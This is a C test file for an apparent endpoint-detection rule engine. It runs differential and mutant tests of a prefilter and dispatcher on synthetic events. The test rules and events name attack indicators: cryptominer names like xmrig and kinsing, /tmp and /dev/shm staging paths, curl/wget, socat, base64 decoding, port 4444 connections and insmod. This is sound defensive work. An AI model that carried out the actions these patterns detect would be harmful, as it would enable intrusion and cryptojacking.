	}
}

/*
 * Events for the numeric gates (gate.c): a step's conjunction as
 * feed_step() builds it, with each number it tests (NUMCMP) set to the
 * number, one more, one less or left out, and each field it tests for
 * (EXISTS) kept or left out, in 32 pseudo-random combinations.
 */
static void feed_numbers(struct diff *d, struct cu_ev *c,
			 const struct vigil_rs_step *step, u32 kind)
{
	const struct vigil_rs *rs = &d->off->rs;
	const struct vigil_rs_insn *prog = &rs->insns[step->first_insn];
	u32 i, j, r, seed = step->first_insn * 2654435761U + kind;
	bool any = false;
	u64 v;

	for (i = 0; i < step->n_insns; i++)
		any |= prog[i].op == VIGIL_OP_NUMCMP ||
		       prog[i].op == VIGIL_OP_EXISTS;
	for (j = 0; any && j < 32; j++) {
		base_event(c, kind);
		for (i = 0; i < step->n_insns; i++)
			if (prog[i].op == VIGIL_OP_MATCH)
				put(c, prog[i].field,
				    pattern_sample(rs, &prog[i], j));
		for (i = 0; i < step->n_insns; i++) {
			const struct vigil_rs_insn *in = &prog[i];

			if (in->op != VIGIL_OP_NUMCMP &&
			    in->op != VIGIL_OP_EXISTS)
				continue;
			seed = seed * 1103515245U + 12345U;
			r = (seed >> 16) & 3;
			if (r == 3 || (in->op == VIGIL_OP_EXISTS && r)) {
				c->ev.present &= ~(1ULL << in->field);
				continue;
			}
			if (in->op == VIGIL_OP_EXISTS)
				continue;
			v = (u64)in->arg + (r == 1) - (r == 2 && in->arg);
			vigil_event_set_num(&c->ev, in->field, v);
		}
		run_both(d, c);
	}
}

/* Every step, once per event kind it takes. */
static void feed(struct diff *d, struct cu_ev *c)
{
	const struct vigil_rs *rs = &d->off->rs;
	u32 st, kind;

	for (st = 0; st < rs->h->n_steps; st++)
		for (kind = 1; kind < __VIGIL_EV_LAST; kind++)
			if (rs->steps[st].kind_mask & (1U << kind)) {
				feed_patterns(d, c, &rs->steps[st], kind);
				feed_step(d, c, &rs->steps[st], kind);
				feed_numbers(d, c, &rs->steps[st], kind);
			}
}

/* Rules that fired whom the compiler warned would never fire: none. */
static void check_never(const char *what, struct diff *d, const bool *never,
			u32 min_fired)
{
	u32 i, fired = 0, bad = 0;

	for (i = 0; i < d->n_rules; i++) {
		fired += d->fired[i];
		if (d->fired[i] && never[i] && bad++ < 5)
			printf("#   rule %u fires, but was warned never to fire\n",
			       i);
	}
	printf("# %s: %u of %u rules fire on events built from their own text; warned never to fire: %u of them\n",
	       what, fired, d->n_rules, bad);
	CHECK(fired >= min_fired);
	CHECK_EQ(bad, 0);
}

/*
 * @never[i]: rule i carries a "never fires" warning; the rules are
 * those of @blob, and at least @min_fired of them must fire.
 */
static void differential(const char *what, void *blob, __u32 len,
			 const bool *never, u32 min_fired)
{
	struct diff *d = calloc(1, sizeof(*d));
	struct cu_ev *c = calloc(1, sizeof(*c));

	CHECK(d && c && blob);
	if (!d || !c || !blob)
		goto out;
	CHECK(diff_engines(d, blob, len));
	if (!d->on || !d->off)
		goto out;
	d->n_rules = d->off->rs.h->n_rules;
	d->fired = calloc(d->n_rules + 1, sizeof(*d->fired));
	CHECK(d->fired);
	if (!d->fired)
		goto out;
	feed(d, c);
	printf("# %s: %u prefilter slots, %llu events, %llu alerts, %llu differ\n",
	       what, d->on->pf.n_slots, (unsigned long long)d->events,
	       (unsigned long long)d->alerts,
	       (unsigned long long)d->mismatches);
	CHECK(d->on->pf.n_slots > 0);
	CHECK(d->alerts > 0);
	CHECK_EQ(d->mismatches, 0);
	check_never(what, d, never, min_fired);
out:
	if (d) {
		free(d->fired);
		vigil_engine_free(d->on);
		vigil_engine_free(d->off);
	}
	free(d);
	free(c);
	free(blob);
}

/* Records whether the rule added last was warned never to fire. */
static void note_never(struct vigil_compiler *c, bool *never)
{
	const struct vigil_cwarnings *w = vigil_compiler_warnings(c);
	u32 i, k = vigil_compiler_count(c) - 1;

	for (i = 0; i < w->n; i++)
		never[k] |= w->w[i].cls == VIGIL_CWARN_NEVER_FIRES;
}

/* *@never: by rule index, is the rule warned never to fire (free()). */
static void *compile_dirs(const char *const *dirs, u32 n_dirs, __u32 *len,
			  bool **never)
{
	struct vigil_compiler *c = vigil_compiler_new();
	struct vigil_cerror e;
	char **paths = NULL;
	size_t n = 0, i;
	void *blob = NULL;

	*never = NULL;
	if (!c)
		return NULL;
	for (i = 0; i < n_dirs; i++)
		if (vigil_compiler_collect(dirs[i], &paths, &n))
			goto out;
	vigil_compiler_paths_sort(paths, n);
	*never = calloc(n + 1, sizeof(**never));
	if (!*never)
		goto out;
	for (i = 0; i < n; i++)
		if (!vigil_compiler_add_file(c, paths[i], &e)) /* rejects: skipped */
			note_never(c, *never);
	/* and rules whose filters are sure to be kept */
	cu_rule("eql", "process where " MANY_CMD);
	if (!vigil_compiler_add_buf(c, cu_toml, strlen(cu_toml), &e))
		note_never(c, *never);
	if (vigil_compiler_emit(c, &blob, len, &e))
		blob = NULL;
out:
	vigil_compiler_paths_free(paths, n);
	vigil_compiler_free(c);
	return blob;
}

/*
 * Sequence rules of every dispatch shape: a first step filtered or not,
 * later steps filtered or not, of the first step's kind or another.
 * "B64" is a filtered exec step (MANY_CMD), the others are not filtered
 * (numbers only).
 */
#define B64 "[process where event.action == \"exec\" and " MANY_CMD "]"
#define UID "[process where event.action == \"exec\" and user.id == 1000]"
#define PORT "[network where destination.port == 4444]"
#define SO "[file where event.type == \"creation\" and file.extension == \"so\"]"
#define SEQ "sequence by process.entity_id with maxspan=1m "
/* a directory and a path of creations, literals enough to scan both */
#define DIRS                                                               \
	"[file where event.type == \"creation\" and file.directory : "      \
	"(\"/tmp\", \"/dev/shm*\", \"/var/tmp*\", \"/run/user/*\", "        \
	"\"*/.cache\", \"/mnt/*\", \"/media/*\", \"/srv/*\")]"
#define PATHS                                                              \
	"[file where event.type == \"creation\" and file.path : "           \
	"(\"*/x.so\", \"*xmrig*\", \"*/kinsing*\", \"*/kdevtmpfs*\", "      \
	"\"*/minerd*\", \"*/cpuminer*\", \"*/nheqminer*\", \"*/ethminer*\")]"
static const char *const seq_shapes[] = {
	SEQ B64 PORT,	     /* filtered first, unfiltered later kind */
	SEQ UID PORT,	     /* unfiltered first, unfiltered later kind */
	SEQ PORT B64,	     /* unfiltered first, filtered later kind */
	SEQ UID B64,	     /* unfiltered first, filtered later, one kind */
	SEQ B64 UID PORT,    /* filtered first, unfiltered later, both kinds */
	SEQ B64 SO,	     /* all filtered? (file.extension: an index hint) */
	SEQ PORT UID PORT,   /* a later step of the first step's kind */
	/*
	 * exec and load_module: its one literal pays for a scan of exec
	 * events (with the B64 steps) but not of load_module events
	 */
	"process where event.type == \"start\" and "
	"process.command_line : \"*xmrig*\"",
	/* so that load_module events are scanned, by another field */
	"process where event.action == \"load_module\" and "
	"process.executable : (\"*/tmp/*\", \"*/dev/shm/*\", "
	"\"*/var/tmp/*\", \"*/run/user/*\", \"*/home/*\", \"*/.cache/*\", "
	"\"*/mnt/*\", \"*/media/*\", \"*/srv/*\", \"*/boot/*\")",
	/* found through the index (an EXACT hint on process.name) */
	"process where event.action == \"exec\" and "
	"process.name in (\"curl\", \"wget\") and user.id == 1000",
	/* 10: a first step of exec and load_module, filtered for exec only */
	SEQ "[process where event.type == \"start\" and "
	"process.command_line : \"*xmrig*\"] " PORT,
	/*
	 * 11: numbers tested after a MATCH: a numeric gate (gate.c), on
	 * user.Ext.real.id, which the streams leave out
	 */
	"process where event.action == \"exec\" and process.name : \"*s*\" "
	"and user.id == 1000 and user.Ext.real.id != 0",
	/* 12: a regex that cannot match without ':' (vigil_dfa_need()) */
	"process where event.action == \"exec\" and "
	"process.command_line regex \".*[0-9]:\"",
	/* 13: a regex that needs no one class: ':' or ';' will do */
	"process where event.action == \"exec\" and "
	"process.command_line regex \".*([0-9]:|x;)\"",
	/*
	 * 14: literals of the parent's command line, which the memo keeps
	 * (struct vigil_pf_memo); the streams give it values of one length
	 */
	"process where event.action == \"exec\" and " MANY_PCMD,
	/*
	 * 15: filtered on the command line for exec events (as 7), guarded
	 * on the working directory, which exec events are scanned for (16)
	 * and load_module events are not: those pass the guard
	 */
	"process where event.type == \"start\" and "
	"process.command_line : \"*xmrig*\" and "
	"process.working_directory : \"/srv/*\"",
	"process where event.action == \"exec\" and "
	"process.working_directory : (\"*/xmrig*\", \"*/kinsing*\", "
	"\"*/kdevtmpfs*\", \"*/cryptonight*\", \"*/minerd*\", "
	"\"*/cpuminer*\", \"*/nheqminer*\", \"*/ethminer*\")",
	/*
	 * 17, 18: a creation's directory and path, the directory scanned
	 * as a part of the path (struct pf_value)
	 */
	SEQ DIRS B64,
	SEQ PATHS B64,
};

/* The EQL rules @queries[0 .. @n) as one ruleset blob. */
static void *compile_queries(const char *const *queries, size_t n, __u32 *len)
{
	struct vigil_compiler *c = vigil_compiler_new();
	struct vigil_cerror e;
	void *blob = NULL;
	size_t i;

	if (!c)
		return NULL;
	for (i = 0; i < n; i++) {
		cu_rule("eql", queries[i]);
		cu_toml[strstr(cu_toml, "t-1") - cu_toml + 2] = (char)('a' + i);
		if (vigil_compiler_add_buf(c, cu_toml, strlen(cu_toml), &e)) {
			printf("#   shape %zu: %s\n", i, e.msg);
			goto out;
		}
	}
	if (vigil_compiler_emit(c, &blob, len, &e)) {
		printf("#   emit: %s\n", e.msg);
		blob = NULL;
	}
out:
	vigil_compiler_free(c);
	return blob;
}

static void *compile_shapes(__u32 *len)
{
	return compile_queries(seq_shapes, ARRAY_SIZE(seq_shapes), len);
}

/* One random event of a small alphabet that meets each step or not. */
static void shape_event(struct cu_ev *c, u32 r)
{
	const char *eid = r & 1 ? "e1" : "e2";

	switch ((r >> 1) % 8) {
	case 0:
	case 1:
		cu_exec(c, 0, eid, "sh", ARGV("sh", "-c", "x"));
		cu_set(c, VIGIL_F_PROCESS_WORKING_DIRECTORY,
		       (r >> 11) & 1 ? "/srv/w" : "/w");
		cmd(c, (r >> 4) & 1 ? "echo aGkK | base64 -d" :
		    (r >> 6) & 1  ? "sh -c xmrig" :
		    (r >> 7) & 1  ? ((r >> 8) & 1 ? "sh -c 8:" : "sh -c x;") :
				    "sh -c x");
		vigil_event_set_num(&c->ev, VIGIL_F_USER_ID,
				    (r >> 5) & 1 ? 1000 : 0);
		/* two of one length, and one that replaces the memo */
		cu_set(c, VIGIL_F_PARENT_COMMAND_LINE,
		       (r >> 9) % 3 == 0 ? "sh" :
		       (r >> 9) % 3 == 1 ? "sh -c socat" : "sh -c xxxxx");
		break;
	case 2:
	case 3:
		cu_net(c, 0, (r >> 4) & 1 ? VIGIL_EV_CONNECT : VIGIL_EV_ACCEPT,
		       "sh", "10.0.0.1", "10.0.0.2", (r >> 5) & 1 ? 4444 : 80);
		cu_set(c, VIGIL_F_PROCESS_ENTITY_ID, eid);
		break;
	case 4:
		cu_file(c, 0, eid, VIGIL_EV_CREATE,
			(r >> 4) & 1 ? "/tmp/x.so" : "/tmp/x.txt");
		break;
	case 7:
		cu_exec(c, 0, eid, "insmod", ARGV("insmod", "x.ko"));
		vigil_event_set_kind(&c->ev, VIGIL_EV_LOAD_MODULE);
		cmd(c, (r >> 4) & 1 ? "insmod xmrig.ko" : "insmod x.ko");
		cu_set(c, VIGIL_F_PROCESS_EXECUTABLE,
		       (r >> 5) & 1 ? "/tmp/insmod" : "/usr/sbin/insmod");
		cu_set(c, VIGIL_F_PROCESS_WORKING_DIRECTORY,
		       (r >> 6) & 1 ? "/srv/w" : "/w");
		break;
	default:
		cu_exec(c, 0, eid, (r >> 4) & 1 ? "curl" : "ls", ARGV("ls"));
		vigil_event_set_num(&c->ev, VIGIL_F_USER_ID, 1000);
		break;
	}
}

/*
 * Random streams through both engines.  Return: events on which they
 * disagree; *@alerts the plain engine's alerts.
 */
static u64 shape_streams(struct diff *d, u32 streams, u64 *alerts)
{
	struct cu_ev *c = calloc(1, sizeof(*c));
	u32 i, j, seed = 1;

	if (!c)
		return 1;
	for (i = 0; i < streams; i++) {
		d->ts += 3600000000000ULL; /* past maxspan: a fresh stream */
		for (j = 0; j < 12; j++) {
			seed = seed * 1103515245U + 12345U;
			shape_event(c, seed >> 8);
			run_both(d, c);
		}
	}
	free(c);
	*alerts = d->alerts;
	return d->mismatches;
}

static struct diff *shape_engines(void)
{
	struct diff *d = calloc(1, sizeof(*d));
	__u32 len = 0;
	void *blob = compile_shapes(&len);

	if (!d || !blob)
		goto fail;
	if (!diff_engines(d, blob, len))
		goto fail;
	free(blob);
	return d;
fail:
	if (d) {
		vigil_engine_free(d->on);
		vigil_engine_free(d->off);
	}
	free(d);
	free(blob);
	return NULL;
}

static void shape_free(struct diff *d)
{
	vigil_engine_free(d->on);
	vigil_engine_free(d->off);
	free(d);
}

/* Does the one regex of rule @r's first step need byte @b? */
static bool regex_needs(const struct vigil_engine *e, u32 r, u8 b)
{
	const struct vigil_rs *rs = &e->rs;
	const struct vigil_rs_step *st = &rs->steps[rs->rules[r].first_step];
	u32 i, k;

	for (i = 0; i < st->n_insns; i++) {
		const struct vigil_rs_insn *in = &rs->insns[st->first_insn + i];

		if (in->op != VIGIL_OP_MATCH)
			continue;
		k = rs->sets[in->arg].first_pat;
		if (rs->pats[k].kind != VIGIL_PAT_REGEX ||
		    rs->need_of[k] == VIGIL_NIL)
			continue;
		return (rs->needs[rs->need_of[k]].map[b / 64] >> (b % 64)) & 1;
	}
	return false;
}

#ifdef PF_DIFF_MUTANT
int main(void)
{
	struct diff *d = shape_engines();
	u64 alerts, diffs;

	if (!d)
		return 1;
	diffs = shape_streams(d, 2000, &alerts);
	printf("# mutant %d: %llu differences\n", PF_DIFF_MUTANT,
	       (unsigned long long)diffs);
	shape_free(d);
	return diffs ? DIFF_EXIT : 0;
}
#else
static void seq_dispatch(void)
{
	struct diff *d = shape_engines();
	const struct vigil_dispatch *dp;
	u64 alerts;
	u32 r;

	CHECK(d);
	if (!d)
		return;
	dp = &d->on->disp;
	/* the shapes are what they say */
	CHECK(d->on->pf.rule_slot[0] != VIGIL_PF_NONE); /* B64 PORT */
	CHECK_EQ(d->on->pf.cand[d->on->pf.rule_slot[0]].kinds,
		 1U << VIGIL_EV_EXEC);
	CHECK_EQ(d->on->pf.rule_slot[1], VIGIL_PF_NONE); /* UID PORT */
	CHECK_EQ(dp->wait_n[VIGIL_EV_CONNECT], 4); /* rules 0, 1, 4 and 10 */
	CHECK_EQ(dp->kind_n[VIGIL_EV_EXEC], 5); /* rules 1, 3, 11, 12, 13 */
	/* later steps of exec, their first step's kind is another or filtered */
	/* rules 2, 4, 6, 17 and 18 */
	CHECK_EQ(dp->wait_n[VIGIL_EV_EXEC], 5);
	CHECK_EQ(d->off->disp.wait_n[VIGIL_EV_CONNECT], 0);
	/* rule 7: filtered on exec events, on load_module's kind list */
	CHECK(d->on->pf.rule_slot[7] != VIGIL_PF_NONE);
	CHECK_EQ(d->on->pf.cand[d->on->pf.rule_slot[7]].kinds,
		 1U << VIGIL_EV_EXEC);
	CHECK_EQ(dp->kind_n[VIGIL_EV_LOAD_MODULE], 3); /* rules 7, 10, 15 */
	/* rule 15: guarded for exec events, passed for load_module's */
	r = d->on->rs.rules[15].first_step;
	CHECK(d->on->pf.guard_slot[r] != VIGIL_PF_NONE);
	CHECK(d->on->pf.guard_slot[r] != VIGIL_PF_NONE &&
	      ((d->on->pf.kpass[VIGIL_EV_LOAD_MODULE][d->on->pf.guard_slot[r] /
						      64] >>
		(d->on->pf.guard_slot[r] % 64)) & 1));
	CHECK(d->on->pf.kslots[VIGIL_EV_LOAD_MODULE] > 0); /* rule 8 */
	CHECK(vigil_index_covers(&d->on->rs, &d->on->rs.rules[9],
				 &d->on->rs.steps[d->on->rs.rules[9].first_step]));
	/* rule 11 has a gate; the plain engine none */
	CHECK_EQ(d->on->gates[d->on->rs.rules[11].first_step].n, 2);
	CHECK(!d->off->rs.gates);
	/* rule 12's regex needs ':', rule 13's no one byte */
	CHECK(regex_needs(d->on, 12, ':'));
	CHECK(!regex_needs(d->on, 13, ':') && !regex_needs(d->on, 13, ';'));
	/* rule 14: filtered on the parent's command line, kept in the memo */
	CHECK(step_filtered(d->on, 14));
	CHECK_EQ(shape_streams(d, 2000, &alerts), 0);
	printf("# %llu events, %llu alerts\n", (unsigned long long)d->events,
	       (unsigned long long)alerts);
	CHECK(alerts > 500); /* the streams do complete sequences */
	CHECK(d->memo.group[VIGIL_PF_MEMO_PARENT].engine == d->on->id);
	shape_free(d);
}

/* Each mutant build of the dispatch must disagree with the plain engine. */
static void mutants(void)
{
	static const char *const what[] = {
		"",
		"a first step's kind on the wait list",
		"a rule slot that takes unfiltered kinds",
		"a kind a step's filter is not kept for stops the step",
		"the index notes its hints' lengths one byte short",
		"a wait list entry gated by its first step's filter",
		"a numeric gate compares a missing number as 0",
		"a numeric gate reads its table's atoms reversed",
		"a regex's needed bytes are not looked for in the last byte",
		"every class of rare bytes counts as needed by a regex",
		"a memo of parent fields compares their lengths, not bytes",
		"a sequence in flight is skipped when its first step cannot match",
		"a guard stops the kinds it is not kept for",
		"a path's part is taken to end where the path does",
	};
	mutants_run("test_prefilter", what, (int)ARRAY_SIZE(what), DIFF_EXIT);
}

static void differential_ours(void)
{
	const char *dirs[] = { "../../rules" };
	__u32 len = 0;
	bool *never;
	void *blob = compile_dirs(dirs, 1, &len, &never);

	differential("rules/", blob, len, never, 1);
	free(never);
}

static void differential_corpus(void)
{
	const char *dirs[] = { CORPUS "rules/linux",
			       CORPUS "rules_building_block" };
	__u32 len = 0;
	bool *never;
	void *blob = compile_dirs(dirs, 2, &len, &never);

	differential("corpus", blob, len, never, 100);
	free(never);
}

int main(int argc, char **argv)
{
	struct stat st;

	mutants_init(argv[0]);
	RUN(filter_contains);
	RUN(filter_shapes);
	RUN(filter_exclusions);
	RUN(filter_anchors);
	RUN(filter_joined);
	RUN(filter_memo);
	RUN(filter_guard);
	RUN(filter_parts);
	RUN(filter_glob_escape);
	RUN(regex_need_positions);
	RUN(glob_need);
	RUN(differential_ours);
	if (stat(CORPUS "rules/linux", &st))
		SKIP(differential_corpus, "corpus not found at " CORPUS);
	else
		RUN(differential_corpus);
	RUN(seq_dispatch);
	RUN(mutants);
	return tap_done();
}
#endif
